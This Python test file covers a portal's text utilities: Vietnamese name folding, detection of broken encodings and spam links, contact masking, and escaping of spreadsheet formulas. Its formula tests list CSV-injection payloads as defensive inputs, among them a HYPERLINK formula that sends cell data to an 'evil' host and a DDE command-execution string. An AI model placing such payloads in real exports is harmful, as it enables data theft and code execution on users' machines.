import csv
import io
import re
import unicodedata
from itertools import product
from unittest import TestCase

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from portal.lib.text import (
    clean,
    escape_formula,
    fold,
    has_broken_encoding,
    has_control_characters,
    has_replacements,
    has_stacked_marks,
    has_url,
    link_or_phone,
    looks_like_vni,
    mailbox,
    mask,
    mask_contact,
    mask_email,
    unescape_formula,
)

DETECTORS = (has_broken_encoding, looks_like_vni, has_replacements, has_stacked_marks, has_url)
TONES = ("", "\u0300", "\u0301", "\u0309", "\u0303", "\u0323")
ONSETS = ("", "h", "th", "ngh", "tr", "qu", "gi", "đ", "kh", "x")
# Rhymes with | behind each vowel that may carry the tone, by the old rule or the new.
RHYMES = re.split(
    r"\s+",
    """a| ă|n â|n e| ê| i| o| ô| ơ| u| ư| y| a|i a|o a|u a|y â|u â|y e|o ê|u i|a iê|n iê|u yê|n
    o|a| o|a|n o|ă|n o|e| o|e|o o|a|i o|a|y o|i ô|i ơ|i u|a u|â|n u|â|y u|ê| u|i uô|n uô|i u|ơ|
    u|y| u|y|a u|y|ê|n u|y|nh u|y|u ư|a ư|i ươ|n ươ|i ư|u yê|u oo|ng a|nh o|ng ô|ng u|ng""",
)


def syllables():
    """Vietnamese syllables, real and possible, each tone on each vowel it may stand on."""
    for onset, rhyme, tone in product(ONSETS, RHYMES, TONES):
        if onset[-1:] in ("u", "i") and rhyme[0] in "ouưi":
            continue
        for place, sign in enumerate(rhyme):
            if sign == "|":
                toned = rhyme[:place] + tone + rhyme[place:]
                yield unicodedata.normalize("NFC", onset + toned.replace("|", ""))


class FoldTests(TestCase):
    def test_drops_accents_case_and_double_spaces(self):
        for given_text, folded in (
            ("Nguyễn Thị Hoà", "nguyen thi hoa"),
            ("  ĐẶNG   Đức\u00a0Út ", "dang duc ut"),
            ("Nguyễn\u200b\u200d Văn\ufeff Tám", "nguyen van tam"),
            ("H’Hen Niê", "h'hen nie"),
            ("Mã_KH", "ma_kh"),
            ("İSTANBUL", "istanbul"),
            ("", ""),
        ):
            with self.subTest(given_text):
                self.assertEqual(fold(given_text), folded)

    def test_finds_old_and_new_tone_placement_and_both_unicode_forms_alike(self):
        self.assertEqual(fold("Hoà Thuý"), fold("Hòa Thúy"))
        self.assertEqual(fold("Nguyễn"), fold(unicodedata.normalize("NFD", "Nguyễn")))

    @given(st.text())
    def test_changes_nothing_the_second_time(self, text):
        self.assertEqual(fold(fold(text)), fold(text))

    @given(st.text(alphabet="aăâđeêioôơuưyÀỆỬỸ \u0300\u0301\u0323bcd"))
    def test_leaves_ascii_of_vietnamese(self, text):
        self.assertTrue(fold(text).isascii())


# Of Unicode's Default_Ignorable_Code_Point, one from each corner.
UNSEEN = "\u034f\u17b4\u180b\ufe00\ufe0f\u2065\U0001d173\U000e0100"


class CleanTests(TestCase):
    def test_tidies_spaces_and_invisible_characters(self):
        for given_text, cleaned in (
            ("Trần\u00a0Văn\u200b Út", "Trần Văn Út"),
            (unicodedata.normalize("NFD", "Nguyễn Thị Hoà"), "Nguyễn Thị Hoà"),
            ("\ufeffMã khách hàng", "Mã khách hàng"),
            ("a\u202eb\u2066c\u200ed", "abcd"),
            ("An\x00h\x07", "Anh"),
            ("  A\t B\r\nC ", "A B C"),
            ("\ud800An", "An"),
            ("\u3164\u2800 ", ""),
            ("A\u200dB", "AB"),
            *(
                (f"A{sign}B", "AB")
                for sign in "\u034f\u17b4\u180b\ufe00\ufe0f\u2065\U0001d173\U000e0100"
            ),
        ):
            with self.subTest(ascii(given_text)):
                self.assertEqual(clean(given_text), cleaned)

    def test_keeps_an_emoji_of_several_parts_whole(self):
        for family in ("Gia đình 👨‍👩‍👧", "❤\ufe0f nhà"):
            self.assertEqual(clean(family), family)

    @given(st.text())
    def test_changes_nothing_the_second_time_and_fits_a_database(self, text):
        cleaned = clean(text)
        self.assertEqual(clean(cleaned), cleaned)
        self.assertNotIn("\x00", cleaned)
        cleaned.encode("utf-8")


class DetectorTests(TestCase):
    def test_find_what_they_are_for(self):
        for detector, texts in (
            (has_broken_encoding, ("Nguyá»…n Thá»‹ HoÃ ", "HoÃ ", "Äá»©c", "NguyÔn ThÞ Hoµ")),
            (looks_like_vni, ("Nguyeãn Thò Hoøa", "NGUYEÃN THÒ HOØA", "Traàn Vaên UÙt", "Voõ")),
            (has_replacements, ("Nguy?n Th? Hoa", "Nguy\ufffdn", "?c")),
            (has_stacked_marks, ("Z" + "\u0301" * 200, "e\u0302\u0301\u0300\u0323")),
            (has_url, ("Gọi 1900 nhận quà http://bit.ly/x", "www.evil.vn", "bit.ly/x")),
            (has_control_characters, ("a\x00b", "\x1b[31m", "a\x9fb")),
        ):
            for text in texts:
                with self.subTest(detector=detector.__name__, text=text):
                    self.assertTrue(detector(text))

    def test_leave_real_names_alone(self):
        for name in (
            "H’Hen Niê", "Y Bhăm Êban", "O’Neill", "Nguyễn", "A", "Công ty TNHH MTV 3-2",
            "Tiki.vn", "Công ty CP A.B.C", "LÃ\u00a0THỊ HOA", "Loïc Leão", "Raúl Müller", "João",
            "Ksor H’Búp", "Hộ kinh doanh “Sáu Bé”", "Nguyễn Văn A & Trần Thị B", "12/5A Lê Lợi",
        ):  # fmt: skip
            for detector in (*DETECTORS, has_control_characters):
                with self.subTest(detector=detector.__name__, name=name):
                    self.assertFalse(detector(name))

    def test_raise_no_false_alarm_on_any_vietnamese_syllable(self):
        names = {form for s in syllables() for form in (s, s.title(), s.upper())}
        alarms = [(d.__name__, name) for d in DETECTORS for name in names if d(f"{name} {name}")]
        self.assertGreater(len(names), 10_000)
        self.assertEqual(alarms, [])

    def test_know_vietnamese_that_was_decoded_with_the_wrong_table(self):
        for name in ("Nguyễn Thị Hòa", "Đỗ Đức Ân", "Trần Văn Út", "Phường Bến Nghé"):
            for table in ("cp1252", "latin-1"):
                with self.subTest(name=name, table=table):
                    broken = name.encode().decode(table, errors="ignore")
                    self.assertTrue(has_broken_encoding(broken))


class MaskTests(TestCase):
    def test_shows_the_last_four_at_most(self):
        self.assertEqual(mask("+84903123456"), "••••3456")
        self.assertEqual(mask("1234"), "••••")

    def test_hides_who_an_address_belongs_to(self):
        self.assertEqual(mask_email("hanh.nguyen@example.vn"), "h•••@example.vn")
        self.assertEqual(mask_email("hanh.nguyen"), "••••")

    def test_hides_a_contact_by_what_it_is(self) -> None:
        self.assertEqual(mask_contact("hanh@example.vn", is_email=True), "h•••@example.vn")
        self.assertEqual(mask_contact("+84903123456", is_email=False), "••••3456")

    def test_knows_one_mailbox_by_all_its_names(self):
        for name in ("Lan.Anh@gmail.com", "lananh+1@googlemail.com", " l.a.nanh+x+y@GMAIL.com"):
            self.assertEqual(mailbox(name), "lananh@gmail.com")
        self.assertEqual(mailbox("lan.anh+1@example.vn"), "lan.anh@example.vn")
        self.assertEqual(mailbox("+84901000001"), "+84901000001")


class LinkOrPhoneTests(TestCase):
    def test_finds_what_reads_as_one_however_it_is_written(self):
        for text in (
            "evn-hcm.top/x", "x.evil.top", "xem evil。top", "evil．ｔｏｐ", "пример.рф",
            "a.xn--p1ai",
            "hxxp://a", "http:/a", "a@b.vn", "10.0.0.1", "ev\u200bil.top",
            "０９０９　１２３　４５６", "0909.123.456", "0 9 0 9 - 1 2 3 4 5 6", "+84(909)123456",
            "ngày 08/12/2026 gọi 0909 123 456",
            "0901/234/567", "0901,234,567", "0901, 234, 567", "0901·234·567", "0901:234:567",
            "0901 / 234 | 567", "84/901/234/567", "1900/545454", "901|234|567",
            "07:30 - 11:00 0901:234:567",
            "evnhcm‧vn", "evnhcm•vn", "evnhcm·vn", "evn-hcm .vn", "evn-hcm. vn", "EVN . VN",
            "bit . ly/abc",
        ):  # fmt: skip
            with self.subTest(text):
                self.assertTrue(link_or_phone(text))

    def test_leaves_plain_words_dates_amounts_and_places_alone(self):
        for text in (
            "Phường Bến Thành: Lê Lợi, Hàm Nghi", "TP.HCM", "P.Bến Thành, Q.Bình Thạnh", "v.v.",
            "12.701.525 đ đến 15/11/2026", "từ 08:00 08/12/2026 đến 12:00 08/12/2026",
            "Lê Lợi 51/10/2, số 12, 14, 16, 18, 20", "lưới 22kV và 0.4kV",
            "24/11/2026", "1.234.567 đ", "07:30 - 11:00", "07:30-11:00, 13:30–16:00 24/11/2026",
            "từ 24/11 - 26/11", "08:00 24/11 - 11:00 26/11", "hẻm 1234/56/78, 1234/56/80",
            "số 84, 86, 88, 90, 92", "Ngừng điện. Me và Vn là tên", "Cắt tỉa cây . Bảo trì",
        ):  # fmt: skip
            with self.subTest(text):
                self.assertEqual(link_or_phone(text), "")

    def test_allows_one_number(self):
        self.assertEqual(link_or_phone("gọi 1900 54 54 54.", allowed="1900 54 54 54"), "")
        self.assertTrue(link_or_phone("gọi 1900 54 54 55", allowed="1900 54 54 54"))


class EscapeFormulaTests(TestCase):
    DANGEROUS = (
        '=HYPERLINK("http://evil/?"&A1)', "=cmd|'/c calc'!A0", "@SUM(1)", "+1+1", "-2+3",
        "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1",
    )  # fmt: skip

    def test_puts_an_apostrophe_before_what_would_run(self):
        for text in self.DANGEROUS:
            with self.subTest(text):
                self.assertEqual(escape_formula(text), f"'{text}")

    def test_leaves_numbers_and_harmless_text(self):
        for value in (-50_000, 1.5, None, "Lê Văn Tám", "'H’Hen", "", "a=b"):
            with self.subTest(value):
                self.assertEqual(escape_formula(value), value)

    @given(st.text())
    def test_comes_back_without_loss(self, text):
        self.assertEqual(unescape_formula(escape_formula(text)), text)

    def test_survives_csv_and_xlsx(self):
        texts = [text for text in self.DANGEROUS if text.isprintable()]
        out = io.StringIO(newline="")
        csv.writer(out).writerow([escape_formula(text) for text in texts])
        (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
        self.assertEqual([unescape_formula(cell) for cell in row], texts)
        book, file = Workbook(), io.BytesIO()
        book.active.append([escape_formula(text) for text in texts])
        book.save(file)
        cells = load_workbook(file).active[1]
        self.assertEqual({cell.data_type for cell in cells}, {"s"})
        self.assertEqual([unescape_formula(cell.value) for cell in cells], texts)
